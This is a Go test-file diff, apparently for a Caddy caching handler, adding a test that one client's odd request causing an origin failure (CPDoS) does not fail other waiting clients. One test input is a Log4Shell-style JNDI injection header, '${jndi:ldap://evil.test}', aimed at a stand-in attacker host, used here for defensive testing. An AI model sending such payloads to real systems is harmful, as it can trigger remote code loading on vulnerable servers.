@@ -191,6 +191,41 @@ func TestUnstorableAnswersAreNotShared(t *testing.T) {
 	}
 }
 
+// Whoever makes the origin fail by an odd request does so alone (CPDoS). An
+// ordinary request's failure is everybody's: they do not all ask one that is down.
+func TestFailureOfTheOdd(t *testing.T) {
+	for field, want := range map[string]string{"X-Search: ${jndi:ldap://evil.test}": "fine", "X-Search: word": "failed"} {
+		t.Run(want, func(t *testing.T) {
+			synctest.Test(t, func(t *testing.T) {
+				h := newHandler(t)
+				release := make(chan struct{})
+				go func() {
+					_ = h.ServeHTTP(httptest.NewRecorder(), get("http://a/x", field), handlerFunc(func(http.ResponseWriter, *http.Request) error {
+						<-release
+						return caddyhttp.Error(http.StatusBadGateway, io.ErrUnexpectedEOF)
+					}))
+				}()
+				synctest.Wait()
+				w := httptest.NewRecorder()
+				got := make(chan string)
+				go func() {
+					if err := h.ServeHTTP(w, get("http://a/x"), answer("fine")); err != nil {
+						got <- "failed"
+						return
+					}
+					got <- w.Body.String()
+				}()
+				synctest.Wait()
+				close(release)
+				if got := <-got; got != want {
+					t.Errorf("who waited got %q, want %q", got, want)
+				}
+				synctest.Wait()
+			})
+		})
+	}
+}
+
 // RFC 9110 §15.2: informational responses are passed on at once.
 func TestEarlyHintsReachTheClient(t *testing.T) {
 	h := newHandler(t)
